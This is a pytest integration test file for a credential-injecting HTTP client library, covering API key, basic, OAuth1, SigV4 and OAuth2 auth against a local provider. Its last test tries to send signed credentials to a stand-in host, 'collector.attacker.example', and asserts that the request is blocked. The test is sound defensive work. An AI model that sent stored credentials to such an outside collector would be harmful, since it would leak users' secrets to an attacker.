"""Each auth type end to end: a stored credential, an invoke, and a provider on 127.0.0.1 that
checks the credential the way the real service does (signatures recomputed from the wire)."""

# ruff: noqa: F811 -- the fixtures imported from invoke_support are pytest parameters here
from __future__ import annotations

from typing import Any

import anyio
import pytest

from plugboard.domain.credentials import (
    ApiKeyCredential,
    AwsCredential,
    BasicCredential,
    OAuth1Credential,
)
from tests.integration.invoke_support import (  # noqa: F401
    ProviderState,
    World,
    provider,
    running_provider,
    world,
)


def _credential(kind: str, state: ProviderState, world: World) -> Any:
    if kind == "apikey":
        return ApiKeyCredential({"X-Api-Key": state.api_key, "account": state.api_account})
    if kind == "basic":
        return BasicCredential(state.basic_user, state.basic_password)
    if kind == "oauth1":
        return OAuth1Credential(state.oauth1_token, state.oauth1_token_secret)
    if kind == "sigv4":
        return AwsCredential(state.aws_access_key, state.aws_secret_key)
    return world.oauth2_credential()


def _connect(world: World, kind: str) -> str:
    service = world.service(kind)
    params = {"tenant": "acme"}
    if kind == "sigv4":
        params["region"] = world.state.aws_region
    link = world.connection(service, link=f"conn_{kind}", params=params)
    world.store(link, _credential(kind, world.state, world))
    return link


KINDS = ["apikey", "basic", "oauth1", "sigv4", "oauth2"]


@pytest.mark.parametrize("kind", KINDS)
def test_a_stored_credential_is_accepted_by_the_provider(world: World, kind: str) -> None:
    link = _connect(world, kind)
    pb = world.client()
    response = pb.invoke_url(
        world.provider.url(f"/api/{kind}/items/{{tenant}}?limit=5"), connection=link
    )
    assert response.status == 200, response.text
    assert response.json()["path"] == f"/api/{kind}/items/acme"


@pytest.mark.parametrize("kind", KINDS)
def test_a_post_with_a_json_body_is_signed_and_accepted(world: World, kind: str) -> None:
    link = _connect(world, kind)
    response = world.client().invoke_url(
        "/things", "POST", connection=link, json={"name": "x", "n": [1, 2]}
    )
    assert response.status == 200, response.text
    assert response.json()["body_bytes"] > 0


@pytest.mark.parametrize("kind", ["oauth1", "apikey"])
def test_a_form_body_post_is_accepted(world: World, kind: str) -> None:
    link = _connect(world, kind)
    response = world.client().invoke_url(
        "/form", "POST", connection=link, data={"a": "1 2", "b": "ä"}
    )
    assert response.status == 200, response.text


@pytest.mark.parametrize("kind", KINDS)
def test_async_invoke_is_accepted_by_the_provider(world: World, kind: str) -> None:
    link = _connect(world, kind)
    pb = world.client()

    async def go() -> Any:
        try:
            return await pb.invoke_url_async("/items?x=1", connection=link)
        finally:
            await pb.aclose()

    response = anyio.run(go)
    assert response.status == 200, response.text


def test_a_wrong_credential_is_refused_by_the_provider(world: World) -> None:
    service = world.service("basic")
    link = world.connection(service, link="wrong_basic")
    world.store(link, BasicCredential(world.state.basic_user, "not-the-password"))
    response = world.client().invoke_url("/x", connection=link)
    assert response.status == 401


def test_pb_auth_injects_the_credential_into_any_httpx2_client(world: World) -> None:
    import httpx2

    from plugboard.auth.outbound import OutboundPolicy, guarded_http_transport
    from tests.integration.invoke_support import resolver

    link = _connect(world, "sigv4")
    pb = world.client()
    # A plain httpx2.Client; its transport only maps the test domain to 127.0.0.1.
    transport = guarded_http_transport(
        OutboundPolicy(["127.0.0.1"], resolver=resolver), verify=world.provider.trust
    )
    with httpx2.Client(transport=transport, auth=pb.auth(link)) as plain:
        response = plain.get(world.provider.url("/api/sigv4/direct"))
    assert response.status_code == 200, response.text


def test_pb_auth_refuses_to_send_the_credential_to_another_host(world: World) -> None:
    import httpx2

    from plugboard.errors import OutboundBlocked

    link = _connect(world, "sigv4")
    calls: list[httpx2.Request] = []
    transport = httpx2.MockTransport(lambda request: calls.append(request) or httpx2.Response(200))
    with httpx2.Client(transport=transport, auth=world.client().auth(link)) as plain:
        with pytest.raises(OutboundBlocked, match="not an origin of service"):
            plain.get("https://collector.attacker.example/api/sigv4/direct")
    assert calls == []
